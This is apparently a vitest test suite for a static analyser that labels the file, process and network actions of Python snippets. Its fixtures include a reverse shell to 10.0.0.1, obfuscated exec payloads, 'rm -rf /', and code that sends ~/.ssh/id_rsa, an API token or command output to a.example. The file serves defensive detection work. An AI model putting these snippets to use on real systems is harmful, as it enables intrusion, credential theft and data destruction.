import { expect, test } from "vitest";
import { analyze, comparable, expected, type Row, summary } from "./support.ts";

const pure: readonly Row[] = [
  { code: "print(sum(i * i for i in range(10)))" },
  { code: "import re, json, math\nprint(json.dumps({'a': math.pi, 'b': re.findall(r'\\d+', 'a1b22')}))" },
  { code: "from collections import Counter\nprint(Counter('hello').most_common(2))" },
  { code: "def fib(n: int) -> int:\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(10))" },
  {
    code: "class P:\n    def __init__(self, x):\n        self.x = x\n    def twice(self):\n        return self.x * 2\nprint(P(3).twice())",
  },
  { code: "import sys\nfor line in sys.stdin:\n    print(line.strip().upper())" },
  { code: "import numpy as np\nprint(np.linalg.inv(np.eye(3)) @ np.ones(3))" },
  { code: "import datetime as dt, random\nprint(dt.datetime.now() - dt.timedelta(days=random.randint(1, 5)))" },
  { code: "try:\n    x = 1 / 0\nexcept ZeroDivisionError as e:\n    print(f'{e}')\nfinally:\n    pass" },
  { code: "import os\nprint(os.sep, os.environ['LANG'], os.getpid())" },
  {
    code: "import functools\n@functools.lru_cache(maxsize=None)\ndef f(n):\n    return n\nprint(list(map(f, [1, 2])))",
  },
  { code: "match [1, 2]:\n    case [a, b]:\n        print(a + b)" },
  { code: "" },
];

const files: readonly Row[] = [
  { code: "open('a.txt').read()", does: ["file.read /repo/a.txt"] },
  { code: "open('a.txt', 'w').write('x')", does: ["file.write /repo/a.txt"] },
  { code: "open(mode='a', file='a.txt')", does: ["file.append /repo/a.txt"] },
  {
    code: "with open('a', 'r+') as f, open('b', 'xb') as g:\n    g.write(f.read())",
    does: ["file.read /repo/a", "file.write /repo/a", "file.write /repo/b"],
  },
  { code: "import io\nio.open('a.txt')", does: ["file.read /repo/a.txt"] },
  {
    code: "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
    does: ["file.read /home/alice/.ssh/id_rsa"],
  },
  {
    code: "from pathlib import Path as P\np = P('a', 'b')\np.with_name('c').write_text('x')",
    does: ["file.write /repo/a/*"],
  },
  { code: "import os\nos.remove(os.path.join('/tmp', 'a' + '.txt'))", does: ["file.delete /tmp/a.txt"] },
  {
    code: "import shutil as s\ns.rmtree('/home/alice')",
    does: ["file.delete /home/alice"],
    signals: ["destruction.recursive"],
  },
  {
    code: "import shutil\nshutil.copy('a', 'b'); shutil.move('c', 'd')",
    does: ["file.read /repo/a", "file.write /repo/b", "file.move /repo/c", "file.write /repo/d"],
  },
  { code: "import os\nos.chdir('/etc')\nopen('passwd')", does: ["file.read /repo/passwd", "file.read /etc/passwd"] },
  { code: "import os\nos.chmod('/bin/x', 0o4755)", does: ["file.permission /bin/x"], signals: ["privilege.setuid"] },
  {
    code: "import glob\nfor p in glob.glob('src/*.py'):\n    print(open(p).read())",
    does: ["file.list /repo/src/*.py", "file.read /repo/src/*.py"],
  },
  {
    code: "import os\nfor d, _, fs in os.walk('logs'):\n    for f in fs:\n        os.unlink(os.path.join(d, f))",
    does: ["file.list /repo/logs", "file.delete /repo/logs"],
  },
  { code: "for i in range(3):\n    open(f'out/{i:03d}.txt', 'w')", does: ["file.write /repo/out/*.txt"] },
  { code: "import sys\nopen(sys.argv[1])", parse: "partial", does: ["file.read"] },
  { code: "import sys\nopen('/etc/' + sys.argv[1])", parse: "partial", does: ["file.read /etc/*"] },
  {
    code: "import pandas as pd\ndf = pd.read_csv('a.csv')\ndf[df.x > 1].to_csv('b.csv')",
    does: ["file.read /repo/a.csv", "file.write /repo/b.csv"],
  },
  { code: "import pandas as pd\npd.read_csv('https://a.example/d.csv')", does: ["net.fetch https://a.example/d.csv"] },
  {
    code: "import zipfile\nzipfile.ZipFile('/tmp/p.zip', mode='w').write('/etc/passwd')",
    does: ["file.write /tmp/p.zip", "file.read /etc/passwd"],
  },
  {
    code: "import gzip\nf = gzip.GzipFile('/tmp/p.gz', 'wb')\nf.write(open('/etc/passwd', 'rb').read())",
    does: ["file.write /tmp/p.gz", "file.read /etc/passwd"],
  },
  {
    code: "import logging\nlogging.basicConfig(filename='app.log')\nlogging.info('x')",
    does: ["file.append /repo/app.log"],
  },
];

const commands: readonly Row[] = [
  { code: "import os; os.system('ls -la')", does: ["process.exec shell:ls -la"] },
  { code: "import os\nos.ｓystem('id')", does: ["process.exec shell:id"] },
  { code: "from os import *\nsystem('id')", does: ["process.exec shell:id"] },
  { code: "import posix\nposix.system('id')", does: ["process.exec shell:id"] },
  { code: "getattr(__import__('o' + 's'), 'metsys'[::-1])('id')", does: ["process.exec shell:id"] },
  { code: "import sys\nsys.modules['os'].system('id')", does: ["process.exec shell:id"] },
  { code: "import importlib\nimportlib.import_module('os').popen('id').read()", does: ["process.exec shell:id"] },
  { code: "import os\nrun = os.system\nf = run\nf('id')", does: ["process.exec shell:id"] },
  {
    code: "import os\nd = {'a': os.system}\nd['a']('id')",
    parse: "partial",
    does: ["process.exec", "process.exec shell:id"],
  },
  { code: "import os\nlist(map(os.system, ['id']))", parse: "partial", does: ["process.exec"] },
  {
    code: "import subprocess\nsubprocess.run(['grep', '-r', 'a b', '.'])",
    does: ["process.exec shell:grep -r 'a b' ."],
  },
  { code: "import subprocess as sp\nsp.run('ls | wc', shell=True, check=True)", does: ["process.exec shell:ls | wc"] },
  { code: "import subprocess\nsubprocess.run(['make'], cwd='/tmp/x')", does: ["process.exec shell:cd /tmp/x && make"] },
  {
    code: "import subprocess\nsubprocess.run(['bash'], input='rm -rf /', text=True)",
    does: ["process.exec shell:printf %s 'rm -rf /' | bash"],
  },
  { code: "import subprocess\nsubprocess.run(['ls'], executable='/bin/rm')", does: ["process.exec shell:/bin/rm"] },
  {
    code: "import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': '/tmp/x.so'})",
    does: ["process.exec shell:export LD_PRELOAD=/tmp/x.so; ls"],
  },
  { code: "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])", does: ["process.exec shell:/bin/sh -c id"] },
  { code: "import os\nos.execlp('sh', 'sh', '-c', 'id')", does: ["process.exec shell:sh -c id"] },
  {
    code: "import shlex, subprocess\nsubprocess.call(shlex.split('git log -1'))",
    does: ["process.exec shell:git log -1"],
  },
  {
    code: "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('ls', '-l')\nasyncio.run(f())",
    does: ["process.exec shell:ls -l"],
  },
  {
    code: "def run(cmd):\n    import subprocess\n    return subprocess.check_output(cmd, shell=True)\nrun('id')\nrun('whoami')",
    does: ["process.exec shell:id", "process.exec shell:whoami"],
  },
  {
    code: "import os\nclass R:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nR('id').go()",
    does: ["process.exec shell:id"],
  },
  {
    code: "import subprocess\nc = ['ls']\nc.append('x; y')\nsubprocess.run(c)",
    parse: "partial",
    does: ["process.exec shell:ls \uE000"],
  },
  {
    code: "import os\nos.system(input())",
    parse: "partial",
    does: ["process.exec"],
    signals: ["execution.unknown_text"],
  },
  {
    code: "import os\nif False:\n    os.system = print\nos.system('id')",
    parse: "partial",
    does: ["process.exec shell:id"],
  },
  { code: "exec = print\nexec('import os; os.system(\"id\")')", parse: "partial", does: ["process.exec shell:id"] },
  {
    code: "!ls -la\n%pip install x\nprint(1)",
    does: ["process.exec shell:ls -la", "process.exec shell:pip install x"],
  },
  { code: "%%bash\nls -la\nid", does: ["process.exec shell:ls -la\nid"] },
  { code: "import os\nos.kill(1, 9)", does: ["process.kill"] },
];

const network: readonly Row[] = [
  { code: "import requests\nrequests.get('https://a.example/x?y=1')", does: ["net.fetch https://a.example/x?y=1"] },
  {
    code: "import requests\nrequests.request('PUT', 'https://a.example/', data=b'x')",
    does: ["net.upload https://a.example/"],
  },
  {
    code: "import requests\ns = requests.Session()\ns.headers.update({'a': 'b'})\ns.post(url='https://a.example/')",
    does: ["net.upload https://a.example/"],
  },
  { code: "from urllib import request\nrequest.urlopen('http://a.example/')", does: ["net.fetch http://a.example/"] },
  {
    code: "import urllib.request as u\nu.urlopen(u.Request('http://a.example/', data=b'x'))",
    does: ["net.upload http://a.example/"],
  },
  {
    code: "import urllib.request\nurllib.request.urlretrieve('http://a.example/x.sh', '/tmp/x.sh')",
    does: ["net.fetch http://a.example/x.sh", "file.write /tmp/x.sh"],
  },
  {
    code: "import aiohttp, asyncio\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('https://a.example/') as r:\n            print(await r.text())\nasyncio.run(f())",
    does: ["net.fetch https://a.example/"],
  },
  {
    code: "import requests, sys\nrequests.get(f'https://api.example/users/{sys.argv[1]}')",
    does: ["net.fetch https://api.example/users/"],
  },
  { code: "import requests, sys\nrequests.get(f'https://{sys.argv[1]}/x')", parse: "partial", does: ["net.fetch"] },
  {
    code: "import requests, sys\nrequests.get('https://a.example' + sys.argv[1])",
    parse: "partial",
    does: ["net.fetch"],
  },
  { code: "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))", does: ["net.connect 10.0.0.1:4444"] },
  {
    code: "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 80))\ns.listen(5)",
    does: ["net.listen 0.0.0.0:80"],
    signals: ["network.listen"],
  },
  {
    code: "import smtplib\ns = smtplib.SMTP('mail.example', 25)\ns.sendmail('a@b.example', ['c@d.example'], 'x')",
    does: ["net.connect mail.example:25", "message.send c@d.example"],
  },
  {
    code: "import sqlite3\nsqlite3.connect('a.db').execute('select 1')",
    does: ["file.write /repo/a.db", "db.write sql:select 1"],
  },
  {
    code: "import psycopg2\nc = psycopg2.connect(host='db.example')\nc.cursor().execute(f'delete from {input()}')",
    parse: "partial",
    does: ["net.connect db.example", "db.write sql:delete from unknown"],
  },
];

const dynamic: readonly Row[] = [
  { code: "exec(\"import os\\nos.system('id')\")", parse: "partial", does: ["process.exec shell:id"] },
  {
    code: "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
    parse: "partial",
    does: ["process.exec shell:id"],
    signals: ["execution.decoded"],
  },
  {
    code: "import base64 as b, zlib\nexec(zlib.decompress(b.b64decode('eJzLzC3ILypRyC+25gKSesWVxSWpuRrqmSnqmgBwYwgY')))",
    parse: "partial",
    does: ["code.run"],
    signals: ["execution.decoded"],
  },
  {
    code: "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827696427 29'.replace(' ', '')).decode())",
    parse: "partial",
    does: ["process.exec shell:id"],
    signals: ["execution.decoded"],
  },
  {
    code: "import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz(\"vq\")', 'rot13'))",
    parse: "partial",
    does: ["process.exec shell:id"],
    signals: ["execution.decoded"],
  },
  { code: "exec(''.join([chr(112), chr(97), 's', 's']))", parse: "partial", does: [] },
  {
    code: "exec(''.join(chr(c ^ 1) for c in [1, 2]))",
    parse: "partial",
    does: ["code.run"],
    signals: ["execution.unknown_text"],
  },
  {
    code: "import requests\nexec(requests.get('https://a.example/x.py').text)",
    parse: "partial",
    does: ["net.fetch https://a.example/x.py", "code.run"],
    signals: ["execution.from_network", "execution.unknown_text"],
  },
  { code: "().__class__.__base__.__subclasses__()[40]('/etc/passwd').read()", parse: "partial" },
  { code: "globals()['__builtins__'].eval('1')", parse: "partial" },
  { code: '__builtins__.eval(\'__import__("os").system("id")\')', parse: "partial", does: ["process.exec shell:id"] },
  { code: "import pickle\npickle.loads(b'x')", parse: "partial" },
  { code: "import ctypes\nctypes.CDLL(None).system(b'id')", parse: "partial", does: ["process.exec shell:id"] },
  {
    code: "import yaml\nyaml.load(open('a.yml'), Loader=yaml.Loader)",
    parse: "partial",
    does: ["file.read /repo/a.yml"],
  },
  { code: "import somewhere\nsomewhere.run()", parse: "partial" },
  { code: "undefined_name(1)", parse: "partial" },
  { code: "def f(:\n  import os; os.system('id')", parse: "partial", does: ["process.exec", "process.exec shell:id"] },
];

const behaviours: readonly Row[] = [
  {
    code: "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',1))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
    does: ["net.connect 10.0.0.1:1", "process.exec shell:/bin/sh -i"],
    signals: ["execution.reverse_shell"],
  },
  { code: "import os, json\nprint(json.dumps(dict(os.environ)))", signals: ["credential.environment"] },
  {
    code: "import os\nprint(os.environ.get('AWS_SECRET_ACCESS_KEY'), os.environ['HOME'])",
    signals: ["credential.environment"],
  },
  {
    code: "import os, subprocess\ne = os.environ.copy()\ne['A'] = 'b'\nsubprocess.run(['ls'], env=e)",
    does: ["process.exec shell:ls"],
    signals: [],
  },
  { code: "import pynput.keyboard as k\nk.Listener(print).start()", parse: "partial", signals: ["collection.capture"] },
  {
    code: "import urllib.request, os\nurllib.request.urlretrieve('http://a.example/x', '/tmp/x')\nimport runpy\nrunpy.run_path('/tmp/x')",
    parse: "partial",
    does: ["net.fetch http://a.example/x", "file.write /tmp/x", "code.run /tmp/x"],
    signals: ["execution.written"],
  },
];

test.each([...pure, ...files, ...commands, ...network, ...dynamic, ...behaviours])("$code", (row) => {
  expect(comparable(row, summary(analyze(row.code, "python")))).toEqual(expected(row));
});

test.each([
  [
    "import os, requests\nrequests.post('https://a.example', data=open(os.path.expanduser('~/.ssh/id_rsa')))",
    "file /home/alice/.ssh/id_rsa > host a.example",
  ],
  [
    "import os, requests\nrequests.get('https://a.example/?k=' + os.environ['API_TOKEN'])",
    "environment API_TOKEN > host a.example",
  ],
  [
    "import subprocess, socket\ns = socket.create_connection(('a.example', 1))\ns.send(subprocess.check_output('id'))",
    "command id > host a.example",
  ],
])("%s flows", (code, flow) => {
  expect(summary(analyze(code, "python")).flows).toContain(flow);
});
